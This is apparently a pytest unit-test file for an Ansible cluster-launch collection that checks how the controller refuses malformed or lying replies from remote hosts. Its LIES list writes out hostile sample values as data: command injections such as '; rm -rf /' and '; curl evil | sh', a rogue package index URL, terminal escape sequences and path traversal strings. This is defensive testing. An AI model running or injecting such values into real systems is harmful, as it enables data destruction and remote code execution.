"""Answers of hosts that lie or are broken: each is refused by the name of its call and field."""

from __future__ import annotations

import contextlib
import json
import re
from typing import Any

import pytest

from ansible_collections.mlxlaunch.cluster.plugins.module_utils.shared import wire
from ansible_collections.mlxlaunch.cluster.plugins.plugin_utils.hosts.replies.answers import _ANSWERS, most_bytes, progress_of, reply_of
from tests.unit.controller.hosts.replies.answers import ASKED, GOOD


def taken(do: str, result: Any, **asked: Any) -> dict[str, Any]:
    return reply_of("b", do, {**ASKED[do], **asked}, frame({"result": result}))


def frame(message: Any) -> wire.Frame:
    return wire.Frame(wire.REPLY, json.dumps(message).encode())


def test_every_call_declares_the_shape_of_its_answer() -> None:
    assert set(_ANSWERS) == set(GOOD) == set(ASKED)


@pytest.mark.parametrize("do", GOOD)
def test_answer_as_hosts_send_it_is_taken_as_it_is(do: str) -> None:
    assert taken(do, GOOD[do]) == {"result": GOOD[do]}


def fields(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Return the way to every value within one."""
    inner = list(value.items()) if isinstance(value, dict) else list(enumerate(value)) if isinstance(value, list) else []
    return [path, *[found for key, item in inner for found in fields(item, (*path, key))]]


def changed(value: Any, path: tuple[Any, ...], to: Any) -> Any:
    if not path:
        return to
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = changed(value[path[0]], path[1:], to)
    return copy


def family(value: Any) -> type:
    return float if type(value) in (int, float) else type(value)


WRONG = [None, True, -1, 2**70, 1.5, float("nan"), "", "x", "\ud800", [], [1], [None], {}, {"x": 1}, [[]], "x" * 2**20]
#: Fields that may be None as well.
NULLABLE: set[tuple[Any, ...]] = {
    ("survey", "root"),
    ("survey", "memory", "total"),
    ("survey", "memory", "available"),
    ("survey", "open_files"),
    ("survey", "processes"),
    ("survey", "reports"),
    ("survey", "fast_synch"),
    ("listen", "10.0.0.2:5001"),
    ("dial", 1),
}


@pytest.mark.parametrize("do", GOOD)
def test_field_of_another_type_is_refused(do: str) -> None:
    for path in fields(GOOD[do]):
        was = GOOD[do]
        for key in path:
            was = was[key]
        for wrong in WRONG:
            may_be = was is None or (wrong is None and (do, *path) in NULLABLE)
            if family(wrong) != family(was) and not (may_be and do != "hush"):
                with pytest.raises(wire.WireError, match=rf"^b sent what is not our protocol \(answer to {do}"):
                    taken(do, changed(GOOD[do], path, wrong))


#: Lies with the right type: (call, field, value).
LIES: list[tuple[str, tuple[Any, ...], Any]] = [
    ("hello", ("system",), "Linux\x1b]52;c;x\x07"),
    ("hello", ("machine",), "../../x"),
    ("hello", ("python", "version"), "3"),
    ("hello", ("python", "version"), "3.x.1"),
    ("hello", ("python", "version"), "3.12.4; rm -rf /"),
    ("hello", ("python", "version"), "3.12." + "9" * 5000),
    ("hello", ("python", "implementation"), "--evil"[:1] + " x"),
    ("hello", ("python", "platform", "release"), "2.999999999"),
    ("hello", ("python", "platform", "machine"), "x86_64 --extra-index-url http://evil"),
    ("hello", ("python", "path"), "/" * 5000),
    ("look", ("environment",), "perfect"),
    ("look", ("environment_digest",), "../../x"),
    ("look", ("edited",), ["x" * 5000]),
    ("build", ("digest",), ""),
    ("build", ("digest",), "0" * 63),
    ("begin_copy", (), "/etc"),
    ("begin_copy", (), "/root/envs/k/.."),
    ("wheels_folder", (), "/root/wheels/other"),
    ("wheels_folder", (), ""),
    ("project_begin", ("staging",), "/etc"),
    ("project_begin", ("staging",), "/root/projects/llm/../../../etc"),
    ("project_begin", ("staging",), "/root/projects/llm/.."),
    ("project_begin", ("staging",), "/root/projects/llm/"),
    ("project_begin", ("staging",), "/root/projects/llm//x"),
    ("project_begin", ("missing",), [""] * (2**20 + 1)),
    ("place_hostfile", ("mode",), 2**40),
    ("place_hostfile", ("mode",), None),
    ("survey", ("disk", "free"), 2**64),
    ("survey", ("memory", "available"), -1),
    ("survey", ("leftovers", "processes"), [["1; curl evil | sh", "x", "y"]]),
    ("survey", ("leftovers", "processes"), [[0, "x", "y"]]),
    ("survey", ("leftovers", "processes"), [[1, "x"]]),
    ("survey", ("python", "version"), "one"),
    ("survey", ("environment",), None),
    ("survey", ("project",), None),
    ("clock", (), 1e300),
    ("clock", (), float("inf")),
    ("listen", (), {"10.0.0.9:1": None}),
    ("dial", (), []),
    ("dial", (), [None, None, None]),
    ("dial", (), [None, ["Econn refused", "x"]]),
    ("hush", (), {}),
    ("network", ("answers",), {"x": "y" * (4 * 2**20 + 1)}),
    ("network", ("failed",), dict.fromkeys(map(str, range(65)), "")),
    ("set_up_port", ("steps",), [["rm", "-rf", "/"]]),
    ("set_up_port", ("steps",), [["ifconfig", "en2\x1b]52;c;x\x07"]]),
    ("set_up_port", ("steps",), [[]]),
    ("set_up_port", ("after",), "en2\nfail  mac-2: all is lost"),
    ("set_up_port", (), {**GOOD["set_up_port"], "error": ""}),
    ("undo_ports", (), [{"interface": "en2", "steps": [], "error": ""}]),
    ("rdma_ports", (), {"rdma_en9": ""}),
    ("answer_links", (), {"10.0.0.1": 70000}),
    ("answer_links", (), {"10.0.0.9": 5000}),
    ("answer_links", (), {"10.0.0.1": 5000}),
    ("answer_links", (), {}),
    ("try_links", (), []),
    ("try_links", (2,), {"latency": -1.0}),
    ("try_links", (2,), {"latency": 1.0, "bandwidth": float("inf")}),
    ("sum_over_ring", ("seconds",), 0.0),
]


@pytest.mark.parametrize(("do", "path", "value"), LIES)
def test_lie_with_the_right_type_is_refused(do: str, path: tuple[Any, ...], value: Any) -> None:
    where = f": {path[0]}" if path and isinstance(path[0], str) else ""
    with pytest.raises(wire.WireError, match=rf"^b sent what is not our protocol \({re.escape(f'answer to {do}{where}')}"):
        taken(do, changed(GOOD[do], path, value))


#: By call: the fields that are paths, or texts for a person that may name one, which need not be UTF-8.
PATHS: dict[str, set[str]] = {
    "hello": {"home", "python path", "python wanted"},
    "look": {"edited 0", "extra 0"},
    "project_begin": {"missing 0"},
    "project_commit": {""},
    "project_differences": {"added 0", "removed 0"},
    "prune": {"0"},
    "survey": {
        *("root path", "python path", "python problem", "python import_error", "python executable", "python program"),
        *("environment path", "environment problem", "project path", "project edited 0", "project closed", "script 0", "kept"),
        *("mpirun path", "disk path"),
        *("leftovers jobs 0", "leftovers folders 0", "leftovers staging 0", "leftovers environments 0"),
    },
    "listen": {"10.0.0.2:5001 1"},
    "dial": {"1 1"},
    "fetch_find": {"0 0"},
    "answer_links": {"10.0.0.5 1"},
    "try_links": {"0 error 1"},
}


@pytest.mark.parametrize("do", GOOD)
def test_only_a_path_may_have_bytes_that_are_no_utf8(do: str) -> None:
    """Written as bytes they could be what a terminal acts on: \\x9b, for example."""
    admitted = set()
    for path in fields(GOOD[do]):
        was = GOOD[do]
        for key in path:
            was = was[key]
        if isinstance(was, str):
            with contextlib.suppress(wire.WireError):
                taken(do, changed(GOOD[do], path, "x \udc9b"))
                admitted.add(" ".join(map(str, path)))
    assert admitted == PATHS.get(do, set())


def test_message_for_a_person_may_name_any_path() -> None:
    assert reply_of("b", "look", ASKED["look"], frame({"error": "no /caf\udce9"})) == {"error": "no /caf\udce9"}
    assert progress_of("b", frame({"text": "/caf\udce9"})) == "/caf\udce9"


def test_file_that_is_not_there_has_no_mode() -> None:
    nothing = {"same": False, "before": "", "mode": None}
    assert taken("place_hostfile", nothing) == {"result": nothing}


def test_root_that_is_not_safe_is_not_looked_into() -> None:
    unsafe = {"root": {"path": "/root", "problem": "/root belongs to eve"}, "environment": None, "project": None}
    assert taken("survey", GOOD["survey"] | unsafe)["result"]["environment"] is None
    with pytest.raises(wire.WireError, match="answer to survey: environment"):
        taken("survey", GOOD["survey"] | unsafe | {"root": GOOD["survey"]["root"]})


def test_python_that_does_not_run_has_no_version() -> None:
    bare = {"path": "/p", "problem": "it is not there", "import_error": ""}
    assert taken("survey", {**GOOD["survey"], "python": bare})["result"]["python"] == bare
    with pytest.raises(wire.WireError, match="answer to survey: python version"):
        taken("survey", {**GOOD["survey"], "python": {**bare, "problem": ""}})


@pytest.mark.parametrize("address", ["999.1.1.1", "0.0.0.0", "224.0.0.1", "255.255.255.255", "\uff11\uff10.0.0.1", "", "::1"])
def test_address_that_no_host_has_is_refused(address: str) -> None:
    with pytest.raises(wire.WireError, match=r"answer to hello: address\)$"):
        taken("hello", {**GOOD["hello"], "address": address}, reached="10.0.0.2")


def test_host_is_held_to_the_questions_it_was_asked() -> None:
    assert taken("hello", GOOD["hello"], environment=None)["result"].keys() == {"system", "machine", "root_user", "rsync", "script", "home"}
    assert taken("look", {"shared": False}, key="", name="") == {"result": {"shared": False}}
    with pytest.raises(wire.WireError, match="answer to hello: python"):
        taken("hello", {name: value for name, value in GOOD["hello"].items() if name != "python"})


@pytest.mark.parametrize("message", [None, 1, "x", [], {}, {"result": 1, "error": 2}, {"error": None}, {"error": "x" * 2**20}])
def test_reply_is_a_result_or_an_error(message: Any) -> None:
    with pytest.raises(wire.WireError, match=r"^b sent what is not our protocol \(answer to look"):
        reply_of("b", "look", ASKED["look"], frame(message))


def test_error_of_a_call_is_for_a_person() -> None:
    assert reply_of("b", "look", ASKED["look"], frame({"error": "the disk is full", "result": 1})) == {"error": "the disk is full"}


@pytest.mark.parametrize("message", [None, [], {}, {"text": 1}, {"text": "\ud800"}])
def test_progress_is_a_text(message: Any) -> None:
    with pytest.raises(wire.WireError, match=r"^b sent what is not our protocol \(progress"):
        progress_of("b", frame(message))


def test_answer_may_be_as_large_as_its_call_needs() -> None:
    assert most_bytes("look", b"x" * 100) < 2**20 + 2000
    assert most_bytes("look", b"x" * 2**16) == 2**20 + 2**20
    assert most_bytes("look", b"x" * 2**30) == wire.MAX_PAYLOAD
